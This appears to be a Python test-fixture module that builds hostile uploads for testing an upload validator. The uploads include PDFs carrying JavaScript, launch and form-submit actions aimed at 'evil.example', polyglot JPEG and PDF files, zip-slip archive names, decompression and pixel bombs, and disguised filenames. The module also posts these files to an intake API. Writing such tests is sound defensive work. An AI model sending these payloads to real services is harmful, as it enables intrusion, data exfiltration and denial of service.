"""Files that harm, and how they are sent."""

import io
import uuid
import zipfile
import zlib
from collections.abc import Callable

import httpx
import pikepdf
from suite.demo.example import photo
from suite.testing.uploads import office, pdf, picture

Maker = Callable[[], tuple[str, bytes, str]]
JPEG, PNG, PDF = "image/jpeg", "image/png", "application/pdf"
PAGE = b"<html><script>alert(1)</script></html>"


def archive() -> bytes:
    """Return a ZIP with a program in it."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        made.writestr("a.exe", b"MZ" + bytes(100))
    return out.getvalue()


def acting(**action: object) -> bytes:
    """Return a PDF that does something when it is opened."""

    def change(made: pikepdf.Pdf) -> None:
        made.Root.OpenAction = made.make_indirect(
            pikepdf.Dictionary(**{key: as_pdf(value) for key, value in action.items()})
        )

    return pdf(change)


def as_pdf(value: object) -> object:
    """Return a name for what begins with a stroke, a text for everything else."""
    return pikepdf.Name(value) if isinstance(value, str) and value.startswith("/") else value


def linking(address: str) -> bytes:
    """Return a PDF with one link."""

    def change(made: pikepdf.Pdf) -> None:
        action = pikepdf.Dictionary(S=pikepdf.Name("/URI"), URI=address)
        note = pikepdf.Dictionary(
            Type=pikepdf.Name("/Annot"), Subtype=pikepdf.Name("/Link"), Rect=[0, 0, 9, 9], A=action
        )
        made.pages[0].Annots = made.make_indirect(pikepdf.Array([made.make_indirect(note)]))

    return pdf(change)


def holding() -> bytes:
    """Return a PDF with a file inside."""

    def change(made: pikepdf.Pdf) -> None:
        made.attachments["a.exe"] = b"MZ"

    return pdf(change)


def swelling() -> bytes:
    """Return a small PDF whose one stream unpacks to 400 MB."""

    def change(made: pikepdf.Pdf) -> None:
        packer, out = zlib.compressobj(9), b""
        for _ in range(400):
            out += packer.compress(bytes(1 << 20))
        stream = pikepdf.Stream(made, out + packer.flush())
        stream.Filter = pikepdf.Name("/FlateDecode")
        made.pages[0].Contents = stream

    return pdf(change, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)


def many_pages() -> bytes:
    """Return a PDF of 60,000 pages that are all the same."""

    def change(made: pikepdf.Pdf) -> None:
        first = made.pages[0].obj
        made.Root.Pages.Kids = pikepdf.Array([first] * 60_000)
        made.Root.Pages.Count = 60_000

    return pdf(change)


def claiming(width: int, height: int) -> bytes:
    """Return a PNG of a kilobyte that claims to be enormous."""
    data = picture("PNG", (10, 10))
    head = b"IHDR" + width.to_bytes(4) + height.to_bytes(4) + data[24:29]
    return data[:12] + head + zlib.crc32(head).to_bytes(4) + data[33:]


REFUSED: dict[str, Maker] = {
    "a page behind a JPEG": lambda: ("a.jpg", photo("x") + PAGE, JPEG),
    "an archive behind a JPEG": lambda: ("a.jpg", photo("x") + archive(), JPEG),
    "a PDF behind a JPEG": lambda: ("a.jpg", photo("x") + pdf(), JPEG),
    "a page behind a PNG": lambda: ("a.png", picture("PNG") + PAGE, PNG),
    "an archive behind a PDF": lambda: ("a.pdf", pdf() + archive(), PDF),
    "a page behind a PDF": lambda: ("a.pdf", pdf() + PAGE, PDF),
    "a page before a PDF": lambda: ("a.pdf", PAGE + pdf(), PDF),
    "a script in a PDF": lambda: ("a.pdf", acting(S="/JavaScript", JS="app.alert(1)"), PDF),
    "a program started by a PDF": lambda: ("a.pdf", acting(S="/Launch", F="calc.exe"), PDF),
    "a form sent by a PDF": lambda: ("a.pdf", acting(S="/SubmitForm", F="http://evil.example"), PDF),
    "another file opened by a PDF": lambda: ("a.pdf", acting(S="/GoToR", F="//evil.example/a"), PDF),
    "a file inside a PDF": lambda: ("a.pdf", holding(), PDF),
    "a script link": lambda: ("a.pdf", linking("javascript:alert(1)"), PDF),
    "a split script link": lambda: ("a.pdf", linking("java\nscript:alert(1)"), PDF),
    "a file link": lambda: ("a.pdf", linking("file:///etc/passwd"), PDF),
    "a share link": lambda: ("a.pdf", linking("\\\\evil.example\\a"), PDF),
    "a data link": lambda: ("a.pdf", linking("data:text/html,x"), PDF),
    "a PDF with a password": lambda: ("a.pdf", pdf(encryption=pikepdf.Encryption(owner="a", user="b")), PDF),
    "a page that calls itself a JPEG": lambda: ("a.jpg", PAGE, JPEG),
    "a program that calls itself a PDF": lambda: ("a.pdf", b"MZ" + bytes(2000), PDF),
    "a drawing with script": lambda: ("a.svg", b"<svg onload='alert(1)'/>", "image/svg+xml"),
    "a page": lambda: ("a.html", PAGE, "text/html"),
    "an archive": lambda: ("a.zip", archive(), "application/zip"),
    "a macro": lambda: ("a.docx", office(word__vbaProject="x"), "application/zip"),
    "a member outside the archive": lambda: ("a.docx", office(**{"..__..__evil": "x"}), "application/zip"),
    "nothing": lambda: ("a.jpg", b"", JPEG),
    "half a JPEG": lambda: ("a.jpg", photo("x")[:300], JPEG),
    "an enormous picture in a kilobyte": lambda: ("a.png", claiming(50_000, 50_000), PNG),
    "two endings": lambda: ("a.jpg.exe", photo("x"), JPEG),
    "a hidden ending": lambda: ("a\u202egpj.exe", photo("x"), JPEG),
}
"""What is refused, by what it is."""

ENDLESS: dict[str, Maker] = {
    "a PDF that unpacks to 400 MB": lambda: ("a.pdf", swelling(), PDF),
    "a PDF of sixty thousand pages": lambda: ("a.pdf", many_pages(), PDF),
}
"""What would take the memory or the time of who opens it."""


def attach(
    who: httpx.Client, draft: str, component: str, name: str, data: bytes, kind: str
) -> httpx.Response:
    """Send a file to a draft, its name as it is."""
    return who.post(
        f"/api/intake/drafts/{draft}/attachments",
        headers={"Idempotency-Key": str(uuid.uuid4())},
        data={"component": component},
        files={"file": (name, data, kind)},
    )
